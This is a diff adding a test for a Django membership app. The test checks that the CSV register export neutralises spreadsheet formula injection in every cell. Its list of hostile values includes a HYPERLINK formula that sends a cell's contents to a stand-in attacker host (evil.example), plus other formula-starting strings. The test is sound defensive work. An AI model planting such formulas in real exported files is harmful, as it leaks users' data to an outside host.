@@ -446,3 +446,31 @@ def test_a_confirmation_after_the_register_changed_shows_the_new_plan_and_import
     r = c.post(confirm, {"token": token}, follow=True)
     assert "Imported 0 member(s), updated 1." in r.content.decode()
     assert Member.objects.get(number="M1").email == "a@new.example"
+
+
+def test_the_register_export_neutralises_spreadsheet_formulas_in_every_cell(org: Org) -> None:
+    import csv
+    import io
+
+    from grassroots.members import csvio
+
+    hostile = ['=HYPERLINK("https://evil.example/?"&B2)', "+1", "-2", "@SUM(A1)", "\tx", "\r=1"]
+    for i, value in enumerate(hostile):
+        Member.objects.create(
+            number=f"F{i}",
+            name=value,
+            email="",
+            branch=org.hillford,
+            join_date=dt.date(2020, 1, 1),
+            status="full",
+            gender=value,
+            rate_band="standard",
+        )
+    r = login(org, "admin").get(reverse("members:export", kwargs={"code": "national"}))
+    text = b"".join(r.streaming_content).decode()  # type: ignore[attr-defined]
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 1 + 2 + len(hostile)
+    for row in rows:
+        assert not any(c.startswith(csvio.FORMULA_STARTS) for c in row), row
+    names = {row[0]: row[1] for row in rows[1:]}
+    assert [names[f"F{i}"] for i in range(len(hostile))] == ["'" + v for v in hostile]
